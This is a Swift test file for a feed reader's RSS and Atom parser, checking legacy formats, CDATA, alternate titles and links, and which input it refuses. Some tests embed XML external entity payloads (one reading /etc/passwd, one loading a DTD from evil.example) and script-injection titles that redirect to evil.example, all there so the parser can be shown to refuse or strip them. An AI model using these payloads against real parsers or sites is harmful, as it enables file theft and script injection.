import Foundation
@testable import LinkShare
import Testing

@Suite("Reading RSS and Atom as other feed readers do: older versions, namespaces, CDATA, titles and links written other ways")
struct SyndicationStandardsTests {
    let feedURL = URL(string: "https://blog.example.org/feed.xml")!

    func read(_ body: String) throws -> FeedDocument {
        try FeedDocument.read(Data(body.utf8), feedURL: feedURL)
    }

    func pairs(_ body: String) throws -> [[String]] {
        try read(body).posts.map { [$0.title, $0.url.absoluteString] }
    }

    @Test("Atom 0.3 (http://purl.org/atom/ns#): entries, escaped HTML titles and the alternate link")
    func atom03() throws {
        let feed = try read("""
            <?xml version="1.0" encoding="utf-8"?>
            <feed version="0.3" xmlns="http://purl.org/atom/ns#">
              <title mode="escaped" type="text/html">Old &lt;i&gt;Atom&lt;/i&gt;</title>
              <entry>
                <title type="text/html" mode="escaped">&lt;b&gt;Bold&lt;/b&gt; move</title>
                <link rel="alternate" type="text/html" href="https://old.example/1"/>
                <id>tag:old.example,2004:1</id>
              </entry>
              <entry><title>Plain</title><link rel="alternate" href="/2"/></entry>
            </feed>
            """)
        #expect(feed.title == "Old Atom")
        #expect(feed.posts.map { [$0.title, $0.url.absoluteString] } == [
            ["Bold move", "https://old.example/1"], ["Plain", "https://blog.example.org/2"],
        ])
    }

    @Test("RSS 0.90 (RDF in http://my.netscape.com/rdf/simple/0.9/) and RSS 2.0 in UserLand's namespace")
    func olderRSSNamespaces() throws {
        let rss090 = """
            <?xml version="1.0"?>
            <rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://my.netscape.com/rdf/simple/0.9/">
              <channel><title>Mozilla Dot Org</title><link>http://www.mozilla.org</link></channel>
              <item><title>New Status Updates</title><link>http://www.mozilla.org/status/</link></item>
            </rdf:RDF>
            """
        #expect(try pairs(rss090) == [["New Status Updates", "http://www.mozilla.org/status/"]])
        #expect(try read(rss090).title == "Mozilla Dot Org")
        let userland = """
            <rss version="2.0" xmlns="http://backend.userland.com/rss2"><channel><title>Scripting News</title>
            <item><title>Namespaced</title><link>https://scripting.example/1</link></item></channel></rss>
            """
        #expect(try pairs(userland) == [["Namespaced", "https://scripting.example/1"]])
    }

    @Test("A document type declaration inside CDATA (a description's or content:encoded's HTML) is text, and does not refuse the feed")
    func doctypeInCDATA() throws {
        let body = """
            <?xml version="1.0" encoding="UTF-8"?>
            <rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
            <item>
              <title>A page</title>
              <link>https://x.example/1</link>
              <description><![CDATA[ <!DOCTYPE html><html><body>Hi</body></html> ]]></description>
              <content:encoded><![CDATA[<!doctype html> <p><!ENTITY a "b"></p>]]></content:encoded>
            </item>
            </channel></rss>
            """
        #expect(try pairs(body) == [["A page", "https://x.example/1"]])
    }

    @Test("An instruction inside CDATA is text: a title about PHP's <? is kept as written, not refused as not well-formed")
    func instructionInCDATA() throws {
        let body = """
            <rss version="2.0"><channel><item>
              <title><![CDATA[Why <?php is better than <? in templates]]></title>
              <link>https://php.example/1</link>
              <description><![CDATA[<?xml-stylesheet x?> ?>]]></description>
            </item></channel></rss>
            """
        #expect(try pairs(body) == [["Why <?php is better than <? in templates", "https://php.example/1"]])
    }

    @Test("A document type is the parser's to read; entity declarations, declarations FoundationXML traps on and markup out of place are refused", arguments: [
        (#"<!DOCTYPE rss [<!ENTITY x "y">]><rss><channel/></rss>"#, "XML that declares entities"),
        (#"<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><title>&x;</title></channel></rss>"#, "XML that declares entities"),
        (#"<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><rss/>"#, "XML that declares entities"),
        (#"<!DOCTYPE rss [<!ATTLIST rss version CDATA #IMPLIED>]><rss/>"#, "XML that declares attribute lists"),
        (#"<!DOCTYPE rss [<!NOTATION n SYSTEM "x">]><rss/>"#, "XML that declares notations"),
        (#"<rss><channel><item><title a="<?x?>">t</title></item></channel></rss>"#, "XML that is not well-formed: a “<” inside a tag"),
        (#"<![CDATA[<?x?>]]><rss/>"#, "XML with a CDATA section outside its elements"),
        (#"<!DOCTYPE rss [<r><![CDATA[<?x?>]]></r>]><rss/>"#, "XML that is not well-formed: a “<” that starts no tag"),
    ])
    func documentTypes(body: String, detail: String) {
        #expect {
            try read(body)
        } throws: { error in
            (error as? FeedError)?.message == "This address doesn't give a feed LinkShare can read (\(detail)). Choose an RSS, Atom or Reddit feed."
        }
    }

    @Test("A web page is refused as one, with or without a document type, even when its scripts are not XML", arguments: [
        "<!DOCTYPE html><html><head><script>if (a < b) {}</script></head></html>",
        "<!doctype html>\n<html lang=en><body><p>Down for maintenance<br></body></html>",
        #"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>"#,
        "<html><head><script>for (i = 0; i < 3; i++) {}</script></head></html>",
    ])
    func webPages(body: String) {
        #expect {
            try read(body)
        } throws: { error in
            (error as? FeedError)?.message == "This address doesn't give a feed LinkShare can read (a web page, not a feed). Choose an RSS, Atom or Reddit feed."
        }
    }

    @Test("A document type without entities or outside references is read, and instructions anywhere but CDATA are removed")
    func harmlessDocumentType() throws {
        let body = """
            <?xml-stylesheet type="text/xsl" href="/rss.xsl"?>
            <!DOCTYPE rss [ <!ELEMENT rss ANY> <!-- a comment --> <?x?> ]>
            <rss version="2.0"><channel><item><title>Kept</title><link>https://x.example/</link></item></channel></rss>
            """
        #expect(try pairs(body) == [["Kept", "https://x.example/"]])
    }

    @Test("Items titled only by dc:title or media:title are read; the item's own title comes first")
    func otherTitles() throws {
        let body = """
            <rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/"><channel>
            <item><dc:title>Dublin Core</dc:title><link>https://x.example/dc</link></item>
            <item><media:content url="https://x.example/v.mp4"><media:title type="html">&lt;b&gt;Media&lt;/b&gt;</media:title></media:content>
              <link>https://x.example/media</link></item>
            <item><title>Own</title><dc:title>Not this</dc:title><link>https://x.example/own</link></item>
            </channel></rss>
            """
        #expect(try pairs(body) == [
            ["Dublin Core", "https://x.example/dc"], ["Media", "https://x.example/media"], ["Own", "https://x.example/own"],
        ])
    }

    @Test("An RSS item linked by an Atom-style <atom:link href/> or <link href/> is read; a self link is not its link")
    func attributeLinks() throws {
        let body = """
            <rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom"><channel>
            <item><title>Atom link</title><atom:link rel="self" href="https://x.example/self"/><atom:link href="https://x.example/a"/></item>
            <item><title>Link href</title><link href="/b"/></item>
            <item><title>Text first</title><link>https://x.example/text</link><atom:link href="https://x.example/attr"/></item>
            <item><title>Self only</title><atom:link rel="self" href="https://x.example/self"/></item>
            </channel></rss>
            """
        #expect(try pairs(body) == [
            ["Atom link", "https://x.example/a"], ["Link href", "https://blog.example.org/b"], ["Text first", "https://x.example/text"],
        ])
    }

    @Test("Scripts and styles are dropped with their content, in HTML titles, XHTML titles and RSS titles")
    func scriptsDropped() throws {
        let atom = """
            <feed xmlns="http://www.w3.org/2005/Atom">
            <entry><title type="html">safe&lt;script>location.href='https://evil.example/'&lt;/script> description</title><link href="https://x.example/1"/></entry>
            <entry><title type="html">&lt;style>b { color: red }&lt;/style>Styled &lt;SCRIPT type="x">alert(1)&lt;/SCRIPT>news</title><link href="https://x.example/2"/></entry>
            <entry><title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">Inline<script>alert(2)</script> markup</div></title><link href="https://x.example/3"/></entry>
            <entry><title type="html">cut &lt;script>alert(3)</title><link href="https://x.example/4"/></entry>
            </feed>
            """
        #expect(try read(atom).posts.map(\.title) == ["safe description", "Styled news", "Inline markup", "cut"])
        let rss = """
            <rss version="2.0"><channel>
            <item><title>safe&lt;script>location.href=1&lt;/script> description</title><link>https://x.example/1</link></item>
            <item><title>Escaped twice &amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;shows</title><link>https://x.example/2</link></item>
            <item><title>Tips: &lt;canvas&gt; and a &lt; b</title><link>https://x.example/3</link></item>
            </channel></rss>
            """
        #expect(try read(rss).posts.map(\.title) == ["safe description", "Escaped twice shows", "Tips: <canvas> and a < b"])
    }

    @Test("A base64 title (a type that is not text) shows its text when it is UTF-8, and its entry is skipped when it is not")
    func base64Titles() throws {
        let body = """
            <feed xmlns="http://www.w3.org/2005/Atom">
            <entry><title type="application/octet-stream">
              RXhhbXBsZSA8Yj5BdG9tPC9iPg==
            </title><link href="https://x.example/1"/></entry>
            <entry><title type="application/octet-stream">not base64!</title><link href="https://x.example/2"/></entry>
            <entry><title type="application/octet-stream">//79AA==</title><link href="https://x.example/3"/></entry>
            <entry><title type="image/png">AAEC</title><link href="https://x.example/4"/></entry>
            </feed>
            """
        #expect(try pairs(body) == [["Example <b>Atom</b>", "https://x.example/1"]])
        let atom03 = """
            <feed version="0.3" xmlns="http://purl.org/atom/ns#"><entry>
            <title type="text/html" mode="base64">PGI+Qm9sZDwvYj4gJmFtcDsgbW9yZQ==</title><link rel="alternate" href="https://x.example/5"/>
            </entry></feed>
            """
        #expect(try pairs(atom03) == [["Bold & more", "https://x.example/5"]])
    }

    @Test("An Atom entry without an alternate link is linked by its id when that is an absolute http(s) URL")
    func atomIdLinks() throws {
        let body = """
            <feed xmlns="http://www.w3.org/2005/Atom">
            <entry><title>By id</title><id>https://x.example/posts/1</id></entry>
            <entry><title>Tag id</title><id>tag:x.example,2025:2</id></entry>
            <entry><title>Relative id</title><id>posts/3</id></entry>
            <entry><title>Link wins</title><id>https://x.example/id</id><link href="https://x.example/link"/></entry>
            </feed>
            """
        #expect(try pairs(body) == [["By id", "https://x.example/posts/1"], ["Link wins", "https://x.example/link"]])
    }
}
